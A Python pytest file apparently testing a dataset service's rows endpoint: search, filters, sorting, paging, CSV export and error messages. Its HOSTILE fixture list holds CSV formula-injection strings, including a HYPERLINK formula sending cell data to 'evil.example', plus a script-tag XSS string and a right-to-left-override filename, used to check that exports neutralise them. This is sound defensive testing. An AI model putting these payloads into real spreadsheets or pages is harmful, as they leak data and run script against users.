"""Rows that match, in any order, as JSON and as CSV: as plain Python finds, sorts and writes them."""

import csv
import io
import math
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pandas as pd
import pytest
from arrays import snapshot_of
from conftest import serving

from cpstream_client.contract.bodies import Rows
from cpstream_service.api.csv_replies import harmless
from cpstream_service.app import create_app
from cpstream_service.settings import ServeSettings
from cpstream_service.snapshot.store import Snapshot, Split

URL = "/v1/splits/train/rows"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1.wav",
    "-2+3.wav",
    "@SUM(A1).wav",
    "\t=1.wav",
    "＝1.wav",
    '<script>alert("x")</script>.wav',
    'quote"comma,newline\n.wav',
    "\u202egpj.exe",
    "ÄÖÜ/Über.wav",
    "x" * 4096,
    "a.*b[c].wav",
]


@pytest.fixture(scope="module")
def split(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Split]]:
    """The URL of a service, and its split train: paths in no order, equal rates, a label that some do not have."""
    rng = np.random.default_rng(0)
    count = 5000
    paths = HOSTILE + [f"speaker{rng.integers(40):02d}/{index:05d}.WAV" for index in range(len(HOSTILE), count)]
    pitch = rng.uniform(80, 300, count)
    pitch[rng.integers(0, count, 300)] = np.nan
    arrays = {"train": (rng.standard_normal((count, 2)), rng.integers(3, 25, count) + 0.1), "dev": (np.ones((3, 2)), np.ones(3))}
    snapshot: Snapshot = snapshot_of(tmp_path_factory.mktemp("rows") / "s", arrays, {"train": paths}, {"pitch": pitch})
    with serving(create_app(snapshot, ServeSettings())) as url:
        yield url, snapshot.splits["train"]


def wanted(split: Split, asked: dict[str, Any]) -> list[int]:
    """The indices in the order asked, by plain Python."""
    paths, cps = split.file_paths.to_pylist(), split.cps.tolist()
    found = [
        index
        for index in range(len(cps))
        if asked.get("search", "").lower() in paths[index].lower()
        and asked.get("min_cps", -math.inf) <= cps[index] <= asked.get("max_cps", math.inf)
    ]
    sort, sign = asked.get("sort", "index"), -1 if asked.get("descending") else 1
    if sort == "file_path":
        return sorted(found, key=lambda index: paths[index].encode(), reverse=sign < 0)
    values = {"index": list(range(len(cps))), "cps": cps, "pitch": split.labels["pitch"].tolist()}[sort]
    return sorted(found, key=lambda index: (math.isnan(values[index]), sign * values[index], index))


ASKED: list[dict[str, Any]] = [
    {},
    {"search": "speaker07"},
    {"search": "SPEAKER1"},
    {"search": "über"},
    {"search": "*b[c]"},
    {"search": "no such"},
    {"min_cps": 10.1},
    {"min_cps": 5, "max_cps": 7.2, "search": ".wav"},
    {"sort": "cps"},
    {"sort": "cps", "descending": True, "max_cps": 9},
    {"sort": "file_path"},
    {"sort": "file_path", "descending": True, "search": "wav"},
    {"sort": "pitch"},
    {"sort": "pitch", "descending": True, "min_cps": 12},
    {"sort": "index", "descending": True},
]


@pytest.mark.parametrize("asked", ASKED, ids=str)
def test_rows_are_those_that_python_finds(split: tuple[str, Split], asked: dict[str, Any]) -> None:
    url, train = split
    expected = wanted(train, asked)
    with httpx.Client(base_url=url) as http:
        is_all = not asked.keys() & {"search", "min_cps", "max_cps"}
        for offset in {0, len(expected) // 2, max(len(expected) - 3, 0), len(expected)}:
            page = Rows.model_validate_json(http.get(URL, params=asked | {"offset": offset, "length": 50}).content)
            assert (page.total, page.matching) == (5000, None if is_all else len(expected))
            assert [row.index for row in page.rows] == expected[offset : offset + 50]
            for row in page.rows:
                assert row.index is not None
                assert (row.file_path, row.cps) == (train.file_paths[row.index].as_py(), train.cps[row.index])
        past = http.get(URL, params=asked | {"offset": len(expected) + 1})
        assert (past.status_code, past.json()["code"]) == (422, "index-out-of-range")
        table = http.get(URL, params=asked, headers={"Accept": "text/csv"})
        assert [int(row["index"]) for row in csv.DictReader(io.StringIO(table.text))] == expected


def test_csv_holds_the_same_numbers_and_no_formula(split: tuple[str, Split]) -> None:
    url, train = split
    reply = httpx.get(url + URL, headers={"Accept": "text/csv"})
    assert reply.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert reply.headers["content-disposition"] == 'attachment; filename="train-rows.csv"'
    table = pd.read_csv(io.BytesIO(reply.content), dtype={"cps": np.float32, "pitch": np.float32}, keep_default_na=True)
    assert list(table.columns) == ["index", "file_path", "cps", "pitch"]
    assert np.array_equal(table["cps"], train.cps)
    assert np.array_equal(table["pitch"], train.labels["pitch"], equal_nan=True)
    with io.StringIO(reply.text, newline="") as text:
        cells = [row[1] for row in csv.reader(text)][1:]
    assert cells == [harmless(path) for path in train.file_paths.to_pylist()]
    assert [cell[0] for cell in cells[:6]] == ["'"] * 6
    assert cells[6:12] == HOSTILE[6:12]  # other text is left as it is
    assert ",3.1," in reply.text  # not the 3.0999999046325684 that the float32 is in full
    part = httpx.get(url + URL, params={"offset": 7, "length": 2}, headers={"Accept": "text/csv"})
    assert len(list(csv.reader(io.StringIO(part.text, newline="")))) == 3
    head = httpx.head(url + URL, headers={"Accept": "text/csv"})
    assert (head.status_code, head.content, head.headers["etag"]) == (200, b"", reply.headers["etag"])
    again = httpx.get(url + URL, headers={"Accept": "text/csv", "If-None-Match": reply.headers["etag"]})
    assert again.status_code == 304
    assert httpx.get(url + URL).headers["etag"] != reply.headers["etag"]


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("*/*", "application/json"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
        ("text/html", "application/json"),
        ("text/csv, application/json;q=0.5", "text/csv"),
        ("text/*", "text/csv"),
    ],
)
def test_csv_is_for_whoever_asks_for_it(split: tuple[str, Split], accept: str, media_type: str) -> None:
    assert httpx.get(split[0] + URL, headers={"Accept": accept}).headers["content-type"].partition(";")[0] == media_type


@pytest.mark.parametrize(
    ("asked", "words"),
    [
        ({"sort": "cpss"}, "sort is 'cpss'; it must be one of index, file_path, cps, pitch"),
        ({"min_cps": 5, "max_cps": 4.5}, "min_cps is 5, above max_cps, 4.5; swap them"),
        ({"min_cps": "fast"}, "min_cps is 'fast'; it must be a number"),
        ({"max_cps": "nan"}, "max_cps is 'nan'; it must be a finite number"),
        ({"search": ""}, "search is ''; it must be at least 1 character long"),
        ({"search": "x" * 1025}, "it must be at most 1024 characters long"),
        ({"search": "speaker07", "offset": 4000}, "the samples that match"),
    ],
)
def test_what_is_refused(split: tuple[str, Split], asked: dict[str, Any], words: str) -> None:
    reply = httpx.get(split[0] + URL, params=asked)
    found = sum("speaker07" in path for path in split[1].file_paths.to_pylist())
    words = words.replace("the samples", f"offset is 4000; it must be from 0 to the {found} samples")
    assert (reply.status_code, words in reply.json()["detail"]) == (422, True), reply.text
    table = httpx.get(split[0] + URL, params={"embedding": True}, headers={"Accept": "text/csv"})
    assert (table.status_code, "CSV holds no embeddings" in table.json()["detail"]) == (422, True)


def test_a_large_table_counts_as_a_stream(tmp_path: Path) -> None:
    rows = np.ones((3000, 2))
    snapshot = snapshot_of(tmp_path / "s", {"train": (rows, np.ones(3000))})
    app = create_app(snapshot, ServeSettings(max_streams=1))
    with serving(app) as url, app.state.service.batch_server.stream("somebody"):
        reply = httpx.get(url + URL, headers={"Accept": "text/csv"})
        assert (reply.status_code, reply.json()["code"]) == (503, "overloaded")
        assert httpx.get(url + URL).status_code == 200
